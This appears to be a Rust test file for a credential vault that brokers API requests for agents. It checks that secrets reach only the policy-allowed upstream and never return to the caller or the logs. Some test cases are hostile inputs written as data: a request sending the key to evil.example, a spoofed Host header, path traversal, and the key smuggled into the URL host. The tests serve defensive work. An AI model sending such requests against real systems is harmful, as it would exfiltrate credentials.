//! Brokered use through the handler, on REST and MCP alike, against an echoing stand-in
//! upstream: the upstream gets the secret, the agent never does, and only destinations the
//! credential's usePolicy names are called.

use super::grants::limited_key;
use credvault::domain::Outcome;
use credvault::testing::*;
use serde_json::{Value, json};
use std::sync::Arc;

pub(super) const SECRET: &str = "sk_live_Br0ker=Secret.42";

pub(super) fn stripe() -> Value {
    json!({
        "type": "API_KEY",
        "data": {"key": SECRET, "pin": "00420042", "slashed": "aaaa/bbbb", "webhook": "whsec_Unsent_0123"},
        "metadata": {"account": "acct_1"},
        "usePolicy": {"hosts": ["api.stripe.com"], "pathPrefixes": ["/v1/"], "methods": ["GET", "POST"]},
    })
}

pub(super) async fn vault_with(echo: &EchoEgress) -> MemoryVault {
    let vault = memory_vault().with_egress(Arc::new(echo.clone()));
    assert_eq!(writer(&vault).put("stripe", &stripe()).await.status, 200);
    let plain = json!({"type": "API_KEY", "data": {"key": SECRET}});
    assert_eq!(writer(&vault).put("nopolicy", &plain).await.status, 200);
    vault
}

fn charge() -> Value {
    json!({
        "method": "POST",
        "url": "https://api.stripe.com/v1/charges?key={{data.key}}&acct={{metadata.account}}",
        "headers": {"Authorization": "Bearer {{data.key}}", "X-Pin": "{{data.pin}}"},
        "body": "secret={{data.key}}",
    })
}

pub(super) fn assert_no_secret(text: &str) {
    let forms = [
        SECRET.to_owned(),
        data_encoding::BASE64.encode(SECRET.as_bytes()),
        data_encoding::HEXLOWER.encode(SECRET.as_bytes()),
        "sk_live_Br0ker%3DSecret.42".to_owned(),
    ];
    for form in forms {
        assert!(!text.contains(&form), "{form} in {text}");
    }
}

#[tokio::test]
async fn the_upstream_gets_the_secret_and_the_answer_has_only_placeholders() {
    let echo = EchoEgress::default();
    let vault = vault_with(&echo).await;
    let answer = writer(&vault)
        .request("POST", "/v0/vault/stripe/request", Some(&charge()))
        .await;
    assert_eq!(answer.status, 200, "{}", answer.text);
    assert_no_secret(&answer.text);
    let received = echo.received();
    assert_eq!(received.len(), 1);
    let sent = &received[0];
    assert_eq!(sent.method, "POST");
    assert!(
        sent.url
            .starts_with("https://api.stripe.com/v1/charges?key=sk_live_Br0ker=Secret"),
        "{}",
        sent.url
    );
    assert!(sent.url.ends_with("&acct=acct_1"));
    assert!(
        sent.headers
            .contains(&("authorization".into(), format!("Bearer {SECRET}")))
    );
    assert_eq!(sent.body, format!("secret={SECRET}").into_bytes());
    // The echo came back scrubbed: placeholders where the secret was, metadata as is.
    assert_eq!(answer.json["status"], 200);
    assert_eq!(answer.json["bodyEncoding"], "utf8");
    assert_eq!(answer.json["truncated"], false);
    assert_eq!(
        answer.json["headers"]["x-echo-authorization"],
        "Bearer {{data.key}}"
    );
    assert_eq!(answer.json["headers"]["x-echo-x-pin"], "{{data.pin}}");
    let echoed: Value = serde_json::from_str(answer.json["body"].as_str().unwrap()).unwrap();
    assert_eq!(echoed["body"], "secret={{data.key}}");
    assert!(echoed["url"].as_str().unwrap().contains("acct=acct_1"));
}

#[tokio::test]
async fn mcp_vault_http_does_the_same_and_is_listed() {
    let echo = EchoEgress::default();
    let vault = vault_with(&echo).await;
    let client = writer(&vault);
    let mut arguments = charge();
    arguments["name"] = json!("stripe");
    let result = client.call_tool("vault_http", arguments).await;
    let text = result.to_string();
    assert_eq!(result["isError"], false, "{text}");
    assert_no_secret(&text);
    assert!(text.contains("Bearer {{data.key}}"), "{text}");
    assert_eq!(echo.received().len(), 1);
    let listed = client
        .mcp(&json!({"jsonrpc": "2.0", "id": 1, "method": "tools/list"}))
        .await;
    assert!(listed.text.contains("\"vault_http\""), "{}", listed.text);
}

#[tokio::test]
async fn a_destination_outside_the_policy_is_refused_before_anything_is_sent() {
    let echo = EchoEgress::default();
    let vault = vault_with(&echo).await;
    let client = writer(&vault);
    let cases = [
        (
            "stripe",
            json!({"method": "GET", "url": "https://evil.example/v1/?k={{data.key}}"}),
            403,
            "host evil.example is not in",
        ),
        (
            "stripe",
            json!({"method": "GET", "url": "https://api.stripe.com:8443/v1/x"}),
            403,
            "host",
        ),
        (
            "stripe",
            json!({"method": "GET", "url": "https://api.stripe.com/v2/x"}),
            403,
            "pathPrefixes",
        ),
        (
            "stripe",
            json!({"method": "GET", "url": "https://api.stripe.com/v1/%2e%2e/admin"}),
            403,
            "pathPrefixes",
        ),
        (
            "stripe",
            json!({"method": "DELETE", "url": "https://api.stripe.com/v1/x"}),
            403,
            "method DELETE",
        ),
        (
            "stripe",
            json!({"method": "GET", "url": "http://api.stripe.com/v1/x"}),
            403,
            "host",
        ),
        (
            "stripe",
            json!({"method": "GET", "url": "https://{{data.key}}/v1/"}),
            400,
            "path and query only",
        ),
        (
            "stripe",
            json!({"method": "GET", "url": "https://user:{{data.key}}@api.stripe.com/v1/"}),
            400,
            "path and query only",
        ),
        (
            "stripe",
            json!({"method": "GET", "url": "https://api.stripe.com/v1/{{data.missing}}"}),
            400,
            "no field for {{data.missing}}",
        ),
        (
            "stripe",
            json!({"method": "GET", "url": "https://api.stripe.com/v1/x", "headers": {"Host": "evil.example"}}),
            400,
            "may not set host",
        ),
        (
            "nopolicy",
            json!({"method": "GET", "url": "https://api.stripe.com/v1/x"}),
            403,
            "no usePolicy",
        ),
        (
            "absent",
            json!({"method": "GET", "url": "https://api.stripe.com/v1/x"}),
            404,
            "not found",
        ),
    ];
    for (name, body, status, words) in cases {
        let answer = client
            .request("POST", &format!("/v0/vault/{name}/request"), Some(&body))
            .await;
        assert_eq!(answer.status.as_u16(), status, "{body}: {}", answer.text);
        assert!(answer.text.contains(words), "{body}: {}", answer.text);
        assert_no_secret(&answer.text);
    }
    // A slash in the value would change the URL's path: refused, not sent.
    let in_path = json!({"method": "GET", "url": "https://api.stripe.com/v1/{{data.slashed}}"});
    let answer = client
        .request("POST", "/v0/vault/stripe/request", Some(&in_path))
        .await;
    assert_envelope(&answer, 400, "bad_request");
    assert!(
        answer.text.contains("cannot go in the URL"),
        "{}",
        answer.text
    );
    assert!(
        echo.received().is_empty(),
        "sent: {:?}",
        echo.received().len()
    );
}

#[tokio::test]
async fn who_may_broker_scopes_and_grants() {
    let echo = EchoEgress::default();
    let vault = vault_with(&echo).await;
    let get = json!({"method": "GET", "url": "https://api.stripe.com/v1/balance", "headers": {"Authorization": "Bearer {{data.key}}"}});
    let path = "/v0/vault/stripe/request";
    let reader = TestClient::new(&vault).with_key(READ_KEY);
    assert_eq!(reader.request("POST", path, Some(&get)).await.status, 200);
    let deposit = TestClient::new(&vault).with_key(WRITE_ONLY_KEY);
    assert_envelope(
        &deposit.request("POST", path, Some(&get)).await,
        403,
        "forbidden",
    );
    // A key granted `use` on stripe may broker it and may not read it.
    let user = limited_key(
        &vault,
        "mgnt-d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4",
        json!({"grants": [{"names": ["stripe"], "allow": ["use"]}]}),
    );
    let user = TestClient::new(&vault).with_key(&user);
    assert_eq!(user.request("POST", path, Some(&get)).await.status, 200);
    assert_envelope(
        &user.request("GET", "/v0/vault/stripe", None).await,
        403,
        "forbidden",
    );
    let reader_only = limited_key(
        &vault,
        "mgnt-e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5",
        json!({"grants": [{"names": ["stripe"], "allow": ["read"]}]}),
    );
    let reader_only = TestClient::new(&vault).with_key(&reader_only);
    let refused = reader_only.request("POST", path, Some(&get)).await;
    assert_envelope(&refused, 403, "forbidden");
    assert!(refused.text.contains("`use`"), "{}", refused.text);
    assert_eq!(echo.received().len(), 2);
}

#[tokio::test]
async fn each_brokered_request_is_recorded_without_a_value_query_or_body() {
    let echo = EchoEgress::default();
    let vault = vault_with(&echo).await;
    let client = writer(&vault);
    assert_eq!(
        client
            .request("POST", "/v0/vault/stripe/request", Some(&charge()))
            .await
            .status,
        200
    );
    let outside = json!({"method": "GET", "url": "https://evil.example/x?k={{data.key}}"});
    assert_eq!(
        client
            .request("POST", "/v0/vault/stripe/request", Some(&outside))
            .await
            .status,
        403
    );
    let logs = client
        .request("GET", "/v0/logs?action=vault_http", None)
        .await;
    assert_eq!(logs.status, 200, "{}", logs.text);
    let entries = logs.json["logs"].as_array().expect("logs");
    assert_eq!(entries.len(), 2, "{}", logs.text);
    let text = logs.text.clone();
    assert_no_secret(&text);
    for hidden in ["acct_1", "secret=", "charges?"] {
        assert!(!text.contains(hidden), "{hidden} in {text}");
    }
    let descriptions: Vec<&str> = entries
        .iter()
        .filter_map(|e| e["description"].as_str())
        .collect();
    assert!(
        descriptions
            .iter()
            .any(|d| d.contains("POST to api.stripe.com, upstream answered 200")),
        "{descriptions:?}"
    );
    assert!(
        descriptions.iter().any(|d| d.contains("evil.example")),
        "{descriptions:?}"
    );
    let denied = entries
        .iter()
        .find(|e| {
            e["description"]
                .as_str()
                .is_some_and(|d| d.contains("evil"))
        })
        .unwrap();
    assert_eq!(denied["status"], Outcome::Denied.as_str());
}
